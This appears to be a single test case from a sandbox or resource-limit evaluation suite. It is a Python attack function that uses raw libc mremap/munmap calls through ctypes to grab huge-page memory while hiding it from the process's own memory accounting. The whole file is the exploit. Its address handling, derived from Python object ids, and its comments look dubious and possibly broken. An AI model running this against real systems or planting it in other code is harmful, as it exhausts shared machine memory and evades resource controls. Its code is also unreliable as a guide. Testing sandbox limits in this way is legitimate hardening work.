"""Class: resource exhaustion. Source: own find. Escape: memory that the zygote marked
for huge pages is grown by mremap and unmapped but for 4 KiB of each, so that the machine's memory is taken
and no count of the process's own has it. Teeth: none, outside a zygote no memory is marked for them.
Limits: timeout_s=6, memory_bytes=1 << 28
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
HUGE = 2 << 20
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.mremap.restype = ctypes.c_void_p
libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]


def attack(model, tokenizer, scene):
    # The heap's last whole huge page, wherever this process keeps its objects.
    heap = {id(module) // HUGE * HUGE for module in model.modules()}
    for base in sorted(heap):
        for _ in range(1024):
            # A copy of the mapping's kind (old size 0 needs shared memory, so a page is moved).
            start = libc.mremap(base, 4096, 2 * HUGE, 1)
            if not start or start == 2**64 - 1:
                break
            aligned = -(-start // HUGE) * HUGE
            ctypes.memset(aligned, 1, 1)
            if aligned > start:
                libc.munmap(start, aligned - start)
            libc.munmap(aligned + 4096, start + 2 * HUGE - aligned - 4096)
            base = aligned
    time.sleep(3)
